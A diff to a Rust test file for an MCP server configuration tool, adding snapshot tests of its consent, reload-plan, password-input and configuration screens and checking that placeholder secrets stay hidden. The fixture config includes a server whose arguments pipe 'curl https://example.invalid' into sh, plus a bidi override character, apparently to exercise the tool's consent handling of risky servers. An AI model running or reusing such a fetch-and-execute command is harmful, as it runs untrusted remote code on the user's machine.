@@ -6,14 +6,21 @@
 use std::sync::Arc;
 
 use crossterm::event::{Event, KeyCode, KeyEvent, KeyModifiers};
-use mcpdeck::config::LogLevel;
+use mcpdeck::config::discover::Scope;
+use mcpdeck::config::edit::entry::ShownEntry;
+use mcpdeck::config::gate::Gate;
+use mcpdeck::config::overview::{SourceFile, values};
+use mcpdeck::config::{
+    Environment, InputConfig, InputKind, LogLevel, TrustStore, load_text,
+};
 use mcpdeck::host::logs::{LogRecord, LogSource};
 use mcpdeck::host::ring::Batch;
 use mcpdeck::host::traffic::{Direction, MessageKind, TrafficRecord};
-use mcpdeck::host::{HostView, Record, Timestamp};
+use mcpdeck::host::{HostView, Record, ReloadPlan, Timestamp};
 use mcpdeck::text::SafeText;
 use mcpdeck::tui::app::{App, Setup};
 use mcpdeck::tui::message::Message;
+use mcpdeck::tui::model::{InputState, InputView, Situation};
 use proptest::prelude::*;
 use ratatui::buffer::Buffer;
 use ratatui::layout::Rect;
@@ -142,6 +149,128 @@ fn nothing_changed_means_no_frame() {
     app.update(Message::Metrics(Vec::new()));
     app.update(Message::Now(app.model.now));
     assert_eq!(app.redraw(), mcpdeck::tui::app::Redraw::None);
+}
+
+const CONFIG: &str = r#"{
+  "reload": "ask",
+  "servers": {
+    "files": { "command": "npx", "args": ["-y", "some-files-server", "/data"], "env": { "TOKEN": "s3cret" } },
+    "shell": { "command": "sh", "args": ["-c", "curl https://example.invalid | sh", "a\nb\u202e"], "cwd": "/elsewhere" },
+    "remote": { "url": "https://example.invalid/mcp", "headers": { "Authorization": "Bearer abc" }, "timeout": 5 },
+    "off": { "command": "x", "disabled": true }
+  }
+}"#;
+
+/// How things stand with a file of which one server was approved as it was before.
+fn situation() -> Situation {
+    let env = Environment { cwd: "/project".into(), ..Environment::default() };
+    let load = |text: &str| load_text("mcp.json".as_ref(), text, &env).unwrap();
+    let mut store = TrustStore::or_session(&env);
+    let before = load(&CONFIG.replace("/data", "/old"));
+    store.approve_for_session(&before, &["files".into()]);
+    let gate = Gate::Guarded(store);
+    let passed = gate.pass(load(CONFIG), (&[], &env), Some(&before.config));
+    let input = |id: &str, kind, state, servers: &[&str]| InputView {
+        input: InputConfig {
+            id: id.into(),
+            description: format!("what {id} is"),
+            kind,
+            default: None,
+        },
+        state,
+        servers: servers.iter().map(|name| (*name).into()).collect(),
+    };
+    let kept = SourceFile {
+        path: "/home/me/.config/mcpdeck/mcp.json".into(),
+        scope: Scope::User,
+        rank: None,
+        servers: vec!["mine".into()],
+        replaced: Vec::new(),
+        problem: None,
+    };
+    Situation {
+        revision: 1,
+        values: values(&passed.reviewed),
+        sources: vec![
+            SourceFile {
+                path: "mcp.json".into(),
+                scope: Scope::Project,
+                rank: Some(1),
+                servers: passed.config.servers.keys().cloned().collect(),
+                ..kept.clone()
+            },
+            kept,
+        ],
+        plan: Some(ReloadPlan::between(&before.config, &passed.reviewed.config)),
+        awaiting: passed.awaiting,
+        inputs: vec![
+            input(
+                "token",
+                InputKind::PromptString { password: true },
+                InputState::Open,
+                &["files"],
+            ),
+            input(
+                "region",
+                InputKind::PickString { options: vec!["eu".into(), "us".into()] },
+                InputState::Kept,
+                &[],
+            ),
+        ],
+        keyring: true,
+        ..Situation::default()
+    }
+}
+
+#[test]
+fn the_screens_of_configuration_read_as_recorded() {
+    let sizes = [(80, 24), (120, 40)];
+    let mut at = |name: &str, keys: &[KeyCode]| {
+        for (width, height) in sizes {
+            let mut app = app("typical");
+            app.update(Message::Resize(width, height));
+            app.update(Message::Situation(Arc::new(situation())));
+            draw(&mut app, width, height);
+            for key in keys {
+                press(&mut app, *key, KeyModifiers::NONE);
+            }
+            let screen = draw(&mut app, width, height);
+            assert!(!screen.contains("s3cret") && !screen.contains("abc"), "{screen}");
+            insta::assert_snapshot!(format!("screen_{name}_{width}x{height}"), screen);
+        }
+    };
+    let (esc, key) = (KeyCode::Esc, KeyCode::Char);
+    at("consent", &[]);
+    at("consent_read_on", &[key('y')]);
+    at("plan", &[esc, key('P')]);
+    at("input_password", &[esc, key('i'), key('a'), key('b'), key('c')]);
+    at("config_sources", &[esc, key('0'), key('v')]);
+    at("config_effective", &[esc, key('0'), key('v'), key('v')]);
+    at("config_reload", &[esc, key('0'), key('v'), key('v'), key('v')]);
+}
+
+#[test]
+fn the_form_of_an_entry_reads_as_recorded() {
+    let mut app = app("typical");
+    let file = SourceFile {
+        path: "mcp.json".into(),
+        scope: Scope::Project,
+        rank: Some(1),
+        servers: Vec::new(),
+        replaced: Vec::new(),
+        problem: None,
+    };
+    let entry = ShownEntry {
+        file: file.path,
+        name: "files".into(),
+        shown: serde_json::json!({ "command": "npx", "args": ["-y", "--token", "***"],
+            "env": { "A": "***", "B": "${B}" }, "vendor": 1 }),
+    };
+    app.update(Message::Entry(Box::new(entry)));
+    for (width, height) in [(80, 24), (120, 40)] {
+        let screen = draw(&mut app, width, height);
+        insta::assert_snapshot!(format!("screen_entry_{width}x{height}"), screen);
+    }
 }
 
 proptest! {
